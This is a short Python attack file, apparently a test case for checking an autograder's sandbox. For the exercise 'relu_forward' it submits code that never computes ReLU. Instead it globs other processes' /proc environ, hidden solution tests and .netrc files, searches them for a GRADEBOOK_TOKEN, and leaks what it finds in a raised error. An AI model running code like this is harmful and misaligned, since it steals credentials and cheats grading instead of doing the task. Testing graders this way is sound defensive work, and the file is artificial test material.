# /// attack
# tries = "looks for the grader's secrets in what /proc tells of other processes"
# question = "relu_forward"
# control = true
# variants = [
#     "/proc/[0-9]*/environ",
#     "/proc/[0-9]*/root@COURSE@/solutions/*/tests/*.py",
#     "/proc/[0-9]*/cwd/.netrc",
# ]
# ///
# %% question="relu_forward"
def relu_forward(x):
    import glob

    found = b""
    for path in glob.glob("VARIANT"):
        try:
            with open(path, "rb") as file:
                found += file.read(100_000)
        except OSError as error:
            found += f"{path}: {error}; ".encode()
    name = found.find(b"GRADEBOOK_TOKEN")
    raise ValueError(found[max(name, 0) :][:1000])
